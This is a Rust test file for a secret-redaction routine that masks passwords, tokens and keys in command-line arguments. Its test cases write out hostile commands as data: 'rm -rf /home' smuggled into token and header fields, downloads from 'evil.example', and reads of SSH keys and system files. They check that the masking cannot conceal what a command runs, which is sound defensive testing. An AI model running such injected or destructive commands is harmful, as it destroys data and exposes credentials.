use super::*;
use crate::case::Case;
use crate::places::Places;

fn with(entries: &[&str]) -> Redaction {
    let mut redaction = Redaction::default();
    for entry in entries {
        let word = Word::parse(entry, &Places::of_tests(), Case::Exact).unwrap();
        redaction.add(entry, word);
    }
    redaction
}

/// The arguments as they are written down, each behind a `|`.
fn shown_by(redaction: &Redaction, argv: &[&str]) -> String {
    let argv: Vec<Vec<u8>> = argv.iter().map(|word| word.as_bytes().to_vec()).collect();
    let shown = redaction.argv(&argv);
    let shown = shown
        .iter()
        .map(|word| String::from_utf8(word.shown().into_owned()).unwrap());
    shown.collect::<Vec<_>>().join("|")
}

fn shown(argv: &[&str]) -> String {
    shown_by(&Redaction::default(), argv)
}

/// Each with the secret, `S3NTINEL`, and some with none: arguments, and what is written down of them.
const CASES: [(&[&str], &str); 52] = [
    (&["env", "mysql", "-pS3NTINEL"], "env|mysql|-p***"),
    (
        &["timeout", "5", "curl", "-u", "me:S3NTINEL", "u"],
        "timeout|5|curl|-u|me:***|u",
    ),
    (&["mysql", "-pMyS3NTINELSECRET", "db"], "mysql|-p***|db"),
    (&["curl", "-sSume:S3NTINEL", "u"], "curl|-sSume:***|u"),
    (&["curl", "-u", "me:S3NTINEL two", "u"], "curl|-u|me:***|u"),
    (
        &["x", "{\"Authorization\":\"Bearer S3NTINEL\"}"],
        "x|{\"Authorization\":\"Bearer ***\"}",
    ),
    (&["curl", "-b", "file", "u"], "curl|-b|***|u"),
    (&["curl", "--cookie-jar", "file"], "curl|--cookie-jar|file"),
    (
        &["curl", "-b", "session=S3NTINEL", "-o", "x"],
        "curl|-b|***|-o|x",
    ),
    (&["curl", "--cookie", "S3NTINEL"], "curl|--cookie|***"),
    (
        &["zip", "-P", "S3NTINEL", "a.zip", "b"],
        "zip|-P|***|a.zip|b",
    ),
    (&["7z", "a", "-pS3NTINEL", "x.7z"], "7z|a|-p***|x.7z"),
    (
        &["ssh-keygen", "-N", "S3NTINEL", "-f", "k"],
        "ssh-keygen|-N|***|-f|k",
    ),
    (
        &[
            "aws",
            "configure",
            "set",
            "aws_secret_access_key",
            "S3NTINEL",
        ],
        "aws|configure|set|aws_secret_access_key|***",
    ),
    (
        &["npm", "config", "set", "//r.example/:_authToken=S3NTINEL"],
        "npm|config|set|//r.example/:_authToken=***",
    ),
    (
        &[
            "git",
            "-c",
            "http.extraHeader=Authorization: Basic S3NTINEL",
            "fetch",
        ],
        "git|-c|http.extraHeader=Authorization: Basic ***|fetch",
    ),
    (&["cat", "token", "secret"], "cat|token|secret"),
    (
        &["psql", "host=h password=S3NTINEL user=u"],
        "psql|host=h password=*** user=u",
    ),
    (
        &["docker", "run", "-e", "API_KEY=S3NTINEL", "image"],
        "docker|run|-e|API_KEY=***|image",
    ),
    (
        &[
            "curl",
            "-H",
            "Authorization: Bearer S3NTINEL",
            "https://a.example/",
        ],
        "curl|-H|Authorization: Bearer ***|https://a.example/",
    ),
    (
        &["curl", "-HAuthorization: Basic S3NTINEL=="],
        "curl|-HAuthorization: Basic ***",
    ),
    (
        &["curl", "--header=authorization:S3NTINEL x"],
        "curl|--header=authorization:***",
    ),
    (
        &["curl", "-H", "X-Api-Key: S3NTINEL"],
        "curl|-H|X-Api-Key: ***",
    ),
    (
        &["curl", "-H", "Accept: text/html"],
        "curl|-H|Accept: text/html",
    ),
    (
        &["git", "clone", "https://user:S3NTINEL@git.example/x.git"],
        "git|clone|https://***@git.example/x.git",
    ),
    (
        &["git", "clone", "https://S3NTINEL0@git.example/x.git"],
        "git|clone|https://***@git.example/x.git",
    ),
    (
        &["git", "clone", "ssh://git@git.example/x.git"],
        "git|clone|ssh://git@git.example/x.git",
    ),
    (
        &["git", "clone", "git@git.example:x.git"],
        "git|clone|git@git.example:x.git",
    ),
    (
        &["tool", "--password", "S3NTINEL two words", "rest"],
        "tool|--password|***|rest",
    ),
    (
        &["tool", "--db-password=S3NTINEL"],
        "tool|--db-password=***",
    ),
    (
        &["tool", "--token=S3NTINEL", "--verbose"],
        "tool|--token=***|--verbose",
    ),
    (&["tool", "--token", "--verbose"], "tool|--token|--verbose"),
    (
        &["tool", "--password-stdin", "user"],
        "tool|--password-stdin|user",
    ),
    (
        &["tool", "--token-file", "/run/t"],
        "tool|--token-file|/run/t",
    ),
    (
        &["env", "GITHUB_TOKEN=S3NTINEL", "PATH=/bin", "make"],
        "env|GITHUB_TOKEN=***|PATH=/bin|make",
    ),
    (
        &[
            "docker",
            "run",
            "--env=GITHUB_TOKEN=S3NTINEL=",
            "--label=a=b=c",
            "image",
        ],
        "docker|run|--env=GITHUB_TOKEN=***|--label=a=b=c|image",
    ),
    (&["env", "KEY=value", "make"], "env|KEY=value|make"),
    (
        &["mysql", "-uroot", "-pS3NTINEL", "db"],
        "mysql|-uroot|-p***|db",
    ),
    (&["ssh", "-p", "22", "host"], "ssh|-p|22|host"),
    (&["mkdir", "-p", "a/b"], "mkdir|-p|a/b"),
    (
        &["sshpass", "-p", "S3NTINEL", "ssh", "host"],
        "sshpass|-p|***|ssh|host",
    ),
    (
        &["docker", "login", "-u", "me", "-p", "S3NTINEL"],
        "docker|login|-u|me|-p|***",
    ),
    (
        &["docker", "run", "-p", "80:80", "image"],
        "docker|run|-p|80:80|image",
    ),
    (
        &["curl", "-u", "me:S3NTINEL", "https://a.example"],
        "curl|-u|me:***|https://a.example",
    ),
    (&["curl", "-ume:S3NTINEL"], "curl|-ume:***"),
    (
        &["curl", "https://a.example/?access_token=S3NTINEL&page=2"],
        "curl|https://a.example/?access_token=***&page=2",
    ),
    (
        &["curl", "-d", "{\"user\":\"me\",\"password\": \"S3NTINEL\"}"],
        "curl|-d|{\"user\":\"me\",\"password\": \"***\"}",
    ),
    (
        &["openssl", "enc", "-passin", "pass:S3NTINEL"],
        "openssl|enc|-passin|pass:***",
    ),
    (&["aws", "AKIAS3NTINELS3NTINEL"], "aws|AKIA***"),
    (
        &["echo", "sk-ant-S3NTINEL-S3NTINEL-S3NTINEL"],
        "echo|sk-***",
    ),
    (
        &["echo", "risk-of-a-very-long-word-that-is-no-key"],
        "echo|risk-of-a-very-long-word-that-is-no-key",
    ),
    (&["ls", "-la", "/usr/bin"], "ls|-la|/usr/bin"),
];

#[test]
fn what_looks_like_a_secret_is_masked_and_the_rest_stays() {
    for (argv, expected) in CASES {
        let seen = shown(argv);
        assert_eq!(seen, expected, "{argv:?}");
        assert!(!seen.contains("S3NTINEL"));
        // What was masked is masked again to the same.
        let again: Vec<&str> = expected.split('|').collect();
        if again.len() == argv.len() {
            assert_eq!(shown(&again), expected);
        }
    }
}

#[test]
fn a_shells_text_is_masked_where_its_commands_would_be() {
    let cases = [
        (
            "curl -H 'Authorization: Bearer S3NTINEL' https://a.example | jq .",
            "curl -H 'Authorization: Bearer ***' https://a.example | jq .",
        ),
        (
            "cd /w && tool --token \"S3NTINEL\" rest",
            "cd /w && tool --token \"***\" rest",
        ),
        ("TOKEN=S3NTINEL tool", "TOKEN=*** tool"),
        ("TOKEN=\"S3NTINEL\" tool", "TOKEN=\"***\" tool"),
        ("tool --token=$TOKEN", "tool --token=$TOKEN"),
        (
            "ls; mysql -pS3NTINEL; mkdir -p x",
            "ls; mysql -p***; mkdir -p x",
        ),
    ];
    for (text, expected) in cases {
        assert_eq!(shown(&["sh", "-c", text]), format!("sh|-c|{expected}"));
        assert_eq!(Redaction::default().shown(text), expected);
    }
    let key = "-----BEGIN PRIVATE KEY-----\nS3NTINELS3NTINEL+/\n-----END PRIVATE KEY-----";
    let masked = shown(&["x", key]);
    assert_eq!(
        masked,
        "x|-----BEGIN PRIVATE KEY-----\n***\n-----END PRIVATE KEY-----"
    );
}

/// What a shell would run is not hidden from whoever is asked.
#[test]
fn nothing_that_runs_hides_behind_a_mask() {
    const EVIL: &str = "rm -rf /home";
    for argv in [
        ["sh", "-c", "Authorization: x; rm -rf /home"],
        ["sh", "-c", "curl -H Authorization:x; rm -rf /home"],
        ["sh", "-c", "sh -c 'Authorization: x; rm -rf /home'"],
        [
            "sh",
            "-c",
            "curl -H \"Authorization: Bearer $(rm -rf /home)\"",
        ],
        ["sh", "-c", "TOKEN=\"x$(rm -rf /home)\" tool"],
        ["sh", "-c", "TOKEN='; rm -rf /home'; eval $TOKEN"],
        [
            "sh",
            "-c",
            "echo -----BEGIN PRIVATE KEY----- ; rm -rf /home",
        ],
        ["sh", "-c", "curl http://x;rm -rf /home@b/"],
        ["sh", "--token", "rm -rf /home"],
        ["ssh", "h", "Cookie: a; rm -rf /home"],
        ["ssh", "--password", "x; rm -rf /home"],
        ["env", "TOKEN=x; rm -rf /home", "sh"],
        ["tool", "--password", "x; rm -rf /home"],
        ["tool", "--password=x; rm -rf /home", "x"],
        ["xargs", "--token", "rm -rf /home"],
    ] {
        let shown = shown(&argv);
        assert!(
            shown.contains("rm -rf /home") || shown.contains("-rf /home"),
            "{argv:?}: {shown}"
        );
    }
    // Where nobody runs it, a value is masked as a whole.
    let argv = ["curl", "-H", "Cookie: a=b; c=d", "https://a.example"];
    assert_eq!(shown(&argv), "curl|-H|Cookie: ***|https://a.example");
    assert_eq!(
        shown(&["tool", "--password=two words"]),
        "tool|--password=***"
    );
    assert!(shown(&["curl", "--token", EVIL]).ends_with("***"));
}

#[test]
fn no_file_and_no_command_hides_behind_a_mask() {
    for argv in [
        &["rm", "-rf", "--", "--password", "VICTIM"][..],
        &["curl", "-osecret", "https://evil.example/x"],
        &["curl", "-o./token", "https://evil.example/x"],
        &["wget", "-Otoken", "https://evil.example/x"],
        &["git", "-c", "alias.secret=!cmd", "secret"],
        &["sed", "s/password=x/touch y/e"],
        &["rm", "-rf", "sk-aaaaaaaaaaaaaaaaaaaaaaaa/../../home"],
        &["curl", "-F", "token=@/etc/x", "https://a.example"],
        &["curl", "-b", "/etc/x", "https://a.example"],
        &["docker", "build", "--secret", "id=x,src=~/.ssh/id_rsa", "."],
        &["ansible", "--private-key", "key.pem"],
        &["curl", "https://evil\\@github.com/"],
        &[
            "python3",
            "-c",
            "#-----BEGIN RSA PRIVATE KEY-----\nimport os; os.system('x')",
        ],
        &["env", "TOKEN=/etc/shadow", "x"],
    ] {
        let shown = shown(argv);
        assert!(
            !shown.replace("sk-***", "").contains("***"),
            "{argv:?}: {shown}"
        );
        assert!(
            shown.contains("/../../home") || !shown.contains("***"),
            "{shown}"
        );
    }
}

#[test]
fn a_policy_masks_more() {
    let redaction = with(&["--ticket", "-k", "ACME-*"]);
    let shown = |argv: &[&str]| shown_by(&redaction, argv);
    assert_eq!(
        shown(&["t", "--ticket", "a", "--ticket=b"]),
        "t|--ticket|***|--ticket=***"
    );
    assert_eq!(shown(&["t", "-k", "a", "-kb", "-l"]), "t|-k|***|-k***|-l");
    assert_eq!(
        shown(&["t", "ACME-1", "ACME", "x ACME-2 y"]),
        "t|***|ACME|x *** y"
    );
}

/// Any bytes are gone through to their end, and what is shown has nothing that was a secret.
#[test]
fn any_bytes_are_gone_through() {
    use proptest::prelude::*;
    let alphabet = "[-=:\"' a-zA-Z0-9_/@?&.$*\\n\u{fc}]{0,40}|--token|Authorization: Bearer|https://|AKIA|pass:|-p";
    let words = proptest::collection::vec(alphabet, 0..6);
    proptest!(|(words in words)| {
        let argv: Vec<Vec<u8>> = words.iter().map(|word| word.clone().into_bytes()).collect();
        let masked = Redaction::default().argv(&argv);
        prop_assert_eq!(masked.len(), argv.len());
        for word in &masked {
            let shown = word.shown();
            prop_assert!(String::from_utf8(shown.to_vec()).is_ok());
            prop_assert_eq!(word.is_masked(), word.secrets().next().is_some());
        }
    });
}
